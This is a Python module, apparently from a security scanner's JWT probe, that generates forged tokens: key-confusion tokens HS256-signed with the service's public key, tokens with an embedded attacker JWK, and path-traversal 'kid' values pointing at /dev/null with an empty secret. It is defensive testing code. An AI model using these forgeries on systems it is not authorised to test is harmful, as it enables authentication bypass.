"""The jwt probe's forgeries that involve keys: the service's public key used as an HMAC
secret, and keys the token brings along in its header. Pure: no requests.

- `key_confusion_forgeries`: an RS/ES/PS/EdDSA token re-signed HS256 with the bytes of the
  service's public key (PEM, PEM without its final newline, PKCS#1 PEM for RSA, DER);
- `header_forgeries`: a token signed by a key the scan made, with that key's public JWK in the
  `jwk` header; a `kid` naming `/dev/null` (by path traversal and absolute), signed HS256 with
  an empty key.

There is no `jku` or `x5u` forgery: a server vulnerable to them fetches the key from the URL in
the header, so the forgery needs a host outside the target that serves the scan's key, and
the scan never reaches outside its scope. PyJWT reads JWKs and makes the RS256 signature of
the `jwk` forgery.
"""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed448, ed25519, rsa
from jwt import PyJWK
from jwt.algorithms import RSAAlgorithm

from probe.probes.jwt_tokens import Forgery, Jwt, b64url, encode_json, hmac_token

# The file `kid` points at; /dev/null reads as empty on every Unix, so its key is b"".
EMPTY_FILE_KIDS = (
    ("kid-empty-file", "../../../../../../../dev/null", "a path climbing to /dev/null"),
    ("kid-empty-file-absolute", "/dev/null", "the absolute path /dev/null"),
)
# A JWKS may list many keys; each key costs four requests, so only the likeliest are used.
MAX_CONFUSION_KEYS = 4
_ASYMMETRIC = re.compile(r"(?:RS|PS|ES)(?:256|384|512)|ES256K|EdDSA|Ed25519|Ed448")
_KEY_TYPES: dict[str, tuple[type, ...]] = {
    "RS": (rsa.RSAPublicKey,),
    "PS": (rsa.RSAPublicKey,),
    "ES": (ec.EllipticCurvePublicKey,),
    "Ed": (ed25519.Ed25519PublicKey, ed448.Ed448PublicKey),
}
_PublicKeyTypes = (
    rsa.RSAPublicKey | ec.EllipticCurvePublicKey | ed25519.Ed25519PublicKey | ed448.Ed448PublicKey
)


@dataclass(frozen=True)
class PublicKey:
    """A public key of the service, for the key-confusion forgeries.

    Attributes:
        kid: The key id the JWKS gave it, if any.
        pem: The key as SubjectPublicKeyInfo PEM.
        source: Where the key came from (a URL), for the report.
        index: Its place in the JWKS's `keys` (0 for a single JWK), to find it again.
    """

    kid: str | None
    pem: bytes
    source: str
    index: int = 0


# -- key confusion ------------------------------------------------------------------------------


def public_keys_from_jwks(document: bytes, *, source: str = "") -> list[PublicKey]:
    """The RSA, EC and OKP signing keys of a JWKS (or of a single JWK), as PEM. Keys marked
    for encryption, symmetric keys and anything unreadable are left out; junk gives []."""
    try:
        data = json.loads(document)
    except (ValueError, RecursionError, TypeError):
        return []
    entries = data.get("keys", [data]) if isinstance(data, dict) else None
    if not isinstance(entries, list):
        return []
    keys = []
    for index, entry in enumerate(entries):
        pem = _entry_pem(entry)
        if pem is not None:
            kid = entry.get("kid")
            keys.append(PublicKey(kid if isinstance(kid, str) else None, pem, source, index))
    return keys


def _entry_pem(entry: Any) -> bytes | None:
    """One JWK's public key as SubjectPublicKeyInfo PEM, or None."""
    if not isinstance(entry, dict) or entry.get("kty") not in ("RSA", "EC", "OKP"):
        return None
    if entry.get("use") == "enc":
        return None
    # The key type decides the algorithm; an entry's own `alg` may name an encryption scheme.
    data = {name: value for name, value in entry.items() if name != "alg"}
    try:
        key = PyJWK(data).key
        public = key.public_key() if hasattr(key, "private_bytes") else key
        if not isinstance(public, _PublicKeyTypes):
            return None
        return public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    except Exception:
        # Hostile JWK fields may trip any error inside PyJWT or cryptography: no key then.
        return None


def key_confusion_forgeries(token: Jwt, public_keys: Sequence[PublicKey]) -> list[Forgery]:
    """For an RS/PS/ES/EdDSA token: HS256 tokens (header kept, `kid` included, payload as
    given) signed with each fitting public key's bytes as the HMAC secret. A key whose `kid`
    matches the token's is used alone; otherwise keys of the algorithm's type, at most
    `MAX_CONFUSION_KEYS`. Other tokens give []."""
    keys = _fitting_keys(token, public_keys)
    header_b64 = encode_json({**token.header, "alg": "HS256"})
    forgeries = []
    for number, key in enumerate(keys, start=1):
        suffix = f"-{number}" if len(keys) > 1 else ""
        label = f"kid {key.kid!r}" if key.kid else f"key {number}"
        for form, material, described in _key_forms(key.pem):
            how = (
                f"the token re-signed HS256 with the public key ({label} from "
                f"{key.source or 'the JWKS'}) {described} as the HMAC secret"
            )
            signed = hmac_token(header_b64, token.payload_b64, material, "HS256")
            forgeries.append(Forgery(f"key-confusion-{form}{suffix}", signed, how, True))
    return forgeries


def confusion_recipe(
    token: Jwt, public_keys: Sequence[PublicKey], name: str
) -> tuple[PublicKey, str] | None:
    """The key and byte form (`pem`, `pem-no-newline`, `pkcs1-pem`, `der`) behind the
    key-confusion forgery called `name`, to write its reproduction; None for another name."""
    keys = _fitting_keys(token, public_keys)
    for number, key in enumerate(keys, start=1):
        suffix = f"-{number}" if len(keys) > 1 else ""
        for form, _, _ in _key_forms(key.pem):
            if name == f"key-confusion-{form}{suffix}":
                return key, form
    return None


def is_asymmetric(alg: str) -> bool:
    """True for the algorithms signed by a private key and checked with a public one (RS*,
    PS*, ES*, EdDSA): the tokens key confusion applies to."""
    return bool(_ASYMMETRIC.fullmatch(alg))


def _fitting_keys(token: Jwt, public_keys: Sequence[PublicKey]) -> list[PublicKey]:
    types = _KEY_TYPES.get(token.alg[:2]) if is_asymmetric(token.alg) else None
    if types is None:
        return []
    kid = token.header.get("kid")
    same_kid = [key for key in public_keys if kid is not None and key.kid == kid]
    if same_kid:
        return same_kid[:1]
    fitting = [key for key in public_keys if isinstance(_load(key.pem), types)]
    return fitting[:MAX_CONFUSION_KEYS]


def _load(pem: bytes) -> object:
    try:
        return serialization.load_pem_public_key(pem)
    except (ValueError, TypeError):
        return None


def _key_forms(pem: bytes) -> list[tuple[str, bytes, str]]:
    """The byte forms a server may hold its public key in: (name, bytes, description)."""
    key = _load(pem)
    if key is None:
        return []
    spki = pem if pem.endswith(b"\n") else pem + b"\n"
    forms = [
        ("pem", spki, "as PEM with its final newline"),
        ("pem-no-newline", spki.rstrip(b"\n"), "as PEM without the final newline"),
    ]
    if isinstance(key, rsa.RSAPublicKey):
        pkcs1 = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        forms.append(("pkcs1-pem", pkcs1, "as PKCS#1 PEM (BEGIN RSA PUBLIC KEY)"))
    if isinstance(key, _PublicKeyTypes):
        der = key.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        forms.append(("der", der, "as DER bytes"))
    return forms


# -- header tricks ------------------------------------------------------------------------------


def header_forgeries(token: Jwt, *, signing_key: rsa.RSAPrivateKey | None = None) -> list[Forgery]:
    """The `jwk` forgery (signed RS256 by `signing_key`, by default a fresh 2048-bit RSA key,
    its public JWK in the header) and the two `kid` forgeries naming /dev/null, signed HS256
    with an empty key. The payload is kept as given."""
    return [_jwk_embedded(token, signing_key), *_kid_empty_file(token)]


def _jwk_embedded(token: Jwt, signing_key: rsa.RSAPrivateKey | None) -> Forgery:
    key = signing_key or rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk: dict[str, Any] = dict(RSAAlgorithm.to_jwk(key.public_key(), as_dict=True))
    kid = token.header.get("kid")
    if kid is not None:
        jwk["kid"] = kid
    header_b64 = encode_json({**token.header, "alg": "RS256", "jwk": jwk})
    signing_input = f"{header_b64}.{token.payload_b64}"
    signature = RSAAlgorithm(RSAAlgorithm.SHA256).sign(signing_input.encode("ascii"), key)
    how = (
        "the token re-signed RS256 with a key the scan made, its public key in the jwk "
        "header: a server that trusts an embedded key accepts anyone's token"
    )
    return Forgery("jwk-embedded", f"{signing_input}.{b64url(signature)}", how, True)


def _kid_empty_file(token: Jwt) -> list[Forgery]:
    forgeries = []
    for name, kid, described in EMPTY_FILE_KIDS:
        header_b64 = encode_json({**token.header, "alg": "HS256", "kid": kid})
        how = (
            f"the token re-signed HS256 with an empty key, kid naming {described}: a server "
            "that reads its key from the file kid names verifies it with an empty secret"
        )
        signed = hmac_token(header_b64, token.payload_b64, b"", "HS256")
        forgeries.append(Forgery(name, signed, how, holds_secret=False))
    return forgeries
